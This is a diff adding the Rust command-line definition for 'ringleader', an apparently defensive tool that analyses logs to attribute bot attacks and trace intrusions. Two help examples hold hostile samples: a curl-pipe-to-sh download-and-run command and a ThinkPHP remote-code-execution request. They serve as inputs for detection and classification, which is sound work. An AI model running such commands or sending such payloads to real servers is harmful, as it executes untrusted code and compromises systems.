@@ -1,0 +1,204 @@
+//! The command line: one definition for parsing, `--help`, completions and the man page.
+
+use std::path::PathBuf;
+
+use clap::{Args as ClapArgs, Parser, Subcommand, ValueEnum};
+
+/// Finds the gang behind the bots: who attacked, how they got in, what they did.
+#[derive(Debug, Parser)]
+#[command(name = "ringleader", version, propagate_version = true, arg_required_else_help = true)]
+#[command(after_long_help = "Start here:
+  ringleader demo                          the main job on the sample that ships with the program
+  ringleader run /var/log/export --out o   your own logs; the formats are recognised from their content
+  ringleader explain GANG --out o          any claim, back to the raw lines that prove it
+  ringleader doctor /var/log/export        what these logs can and cannot show")]
+pub(crate) struct Args {
+    #[command(subcommand)]
+    pub command: Command,
+}
+
+#[derive(Debug, Subcommand)]
+pub(crate) enum Command {
+    /// Run the main job on the shipped sample
+    #[command(after_long_help = "Example:\n  ringleader demo\n  ringleader demo --lang zh --out /tmp/demo")]
+    Demo {
+        /// Where the findings go
+        #[arg(long, default_value = "ringleader-demo", value_name = "DIR")]
+        out: PathBuf,
+        /// Language of the reports for people
+        #[arg(long, value_enum, default_value_t = Lang::En)]
+        lang: Lang,
+    },
+    /// Turn log files into findings, in one go
+    #[command(after_long_help = "Examples:
+  ringleader run /var/log/export --out findings
+  zcat day.ndjson.gz | ringleader run - --host web1 --out findings
+  ringleader run logs/ --alert 192.0.2.7 --out findings      what has this address to do with?
+  ringleader run today/ --registry yesterday/gangs.json --out today.findings
+  ringleader run logs/ --fail-on-findings --json             for scripts: exit code 1 where a gang was found")]
+    Run(RunArgs),
+    /// Walk from any claim back to the raw lines that prove it
+    #[command(after_long_help = "ID is a gang, campaign, episode, evidence or event id (the first characters are enough), an indicator, or a host.
+
+Examples:
+  ringleader explain 3f2a91c0 --out findings
+  ringleader explain 203.0.113.7 --out findings
+  ringleader explain web-07 --out findings")]
+    Explain {
+        /// What to explain
+        id: String,
+        /// The findings folder
+        #[arg(long, default_value = "findings", value_name = "DIR")]
+        out: PathBuf,
+        /// Machine-readable output
+        #[arg(long)]
+        json: bool,
+    },
+    /// Say what these logs can and cannot show: formats, fields, loss, clocks, silence
+    Doctor {
+        #[command(flatten)]
+        read: ReadArgs,
+        /// Machine-readable output
+        #[arg(long)]
+        json: bool,
+    },
+    /// Find the indicators in each line of text; NDJSON out
+    #[command(after_long_help = "Example:\n  echo 'curl -s http://192.0.2.7/x.sh | sh' | ringleader extract")]
+    Extract {
+        /// A text file; standard input where there is none
+        file: Option<PathBuf>,
+    },
+    /// Name the attack method of each payload (a raw HTTP request, URL or command a line, or NDJSON); NDJSON out
+    #[command(after_long_help = "Input is one payload a line, or NDJSON objects with a field `payload`.
+
+Example:
+  echo 'GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id' | ringleader identify")]
+    Identify {
+        /// A text file; standard input where there is none
+        file: Option<PathBuf>,
+    },
+    /// Read logs into a lake: resumable, exactly once
+    Ingest {
+        #[command(flatten)]
+        read: ReadArgs,
+        /// The lake's folder
+        #[arg(long, value_name = "DIR")]
+        lake: PathBuf,
+    },
+    /// Turn what is in a lake into findings
+    Analyze {
+        /// The lake's folder
+        #[arg(long, value_name = "DIR")]
+        lake: PathBuf,
+        /// Only events from this time on (RFC 3339)
+        #[arg(long, value_name = "T")]
+        since: Option<String>,
+        /// Only events before this time (RFC 3339)
+        #[arg(long, value_name = "T")]
+        until: Option<String>,
+        #[command(flatten)]
+        output: OutputArgs,
+        #[command(flatten)]
+        resources: ResourceArgs,
+    },
+    /// List what is built in
+    List {
+        #[arg(value_enum)]
+        what: Listed,
+        /// Machine-readable output
+        #[arg(long)]
+        json: bool,
+    },
+    /// Print shell completions
+    #[command(after_long_help = "Example:\n  ringleader completions bash > ~/.local/share/bash-completion/completions/ringleader")]
+    Completions { shell: clap_complete::Shell },
+    /// Print the man page
+    #[command(after_long_help = "Example:\n  ringleader man | man -l -")]
+    Man,
+}
+
+#[derive(Debug, ClapArgs)]
+pub(crate) struct RunArgs {
+    #[command(flatten)]
+    pub read: ReadArgs,
+    #[command(flatten)]
+    pub output: OutputArgs,
+    /// Start from an alert: a file of any format, or an indicator (address, URL, path, hash)
+    #[arg(long, value_name = "FILE|INDICATOR")]
+    pub alert: Option<String>,
+}
+
+/// How inputs are read.
+#[derive(Debug, ClapArgs)]
+pub(crate) struct ReadArgs {
+    /// Files, folders (walked), archives (gz, zst, zip, tar), or - for standard input
+    #[arg(required = true, value_name = "INPUT")]
+    pub inputs: Vec<String>,
+    /// Read every input as this format instead of recognising it (see `list formats`)
+    #[arg(long, value_name = "NAME")]
+    pub format: Option<String>,
+    /// The host of records that name none; else the file's name
+    #[arg(long, value_name = "NAME")]
+    pub host: Option<String>,
+    /// The tenant of records that name none
+    #[arg(long, default_value = "", value_name = "NAME", hide_default_value = true)]
+    pub tenant: String,
+    /// Zone of times that name none
+    #[arg(long, default_value = "+00:00", value_name = "±HH:MM", allow_hyphen_values = true)]
+    pub timezone: String,
+    /// Year of syslog times, which have none [default: this year]
+    #[arg(long, value_name = "YYYY")]
+    pub year: Option<i32>,
+    #[command(flatten)]
+    pub resources: ResourceArgs,
+}
+
+#[derive(Debug, ClapArgs)]
+pub(crate) struct ResourceArgs {
+    /// Worker threads [default: all cores]
+    #[arg(long, value_name = "N")]
+    pub threads: Option<usize>,
+    /// Memory for events before they go to disk, as 512M or 4G [default: a quarter of the machine]
+    #[arg(long, value_name = "SIZE")]
+    pub memory: Option<String>,
+}
+
+/// What comes out.
+#[derive(Debug, ClapArgs)]
+pub(crate) struct OutputArgs {
+    /// The findings folder
+    #[arg(long, default_value = "findings", value_name = "DIR")]
+    pub out: PathBuf,
+    /// Language of the reports for people
+    #[arg(long, value_enum, default_value_t = Lang::En)]
+    pub lang: Lang,
+    /// Also write processes.parquet: a row for every process event read
+    #[arg(long)]
+    pub processes: bool,
+    /// gangs.json of an earlier run: known gangs keep their ids, new methods give warnings
+    #[arg(long, value_name = "FILE")]
+    pub registry: Option<PathBuf>,
+    /// A folder of further Sigma rules (process creation)
+    #[arg(long, value_name = "DIR")]
+    pub rules: Option<PathBuf>,
+    /// Exit with code 1 where a gang was found
+    #[arg(long)]
+    pub fail_on_findings: bool,
+    /// Print summary.json instead of the summary for people
+    #[arg(long)]
+    pub json: bool,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
+pub(crate) enum Lang {
+    En,
+    Zh,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
+pub(crate) enum Listed {
+    Formats,
+    Behaviours,
+    Methods,
+    Gangs,
+}
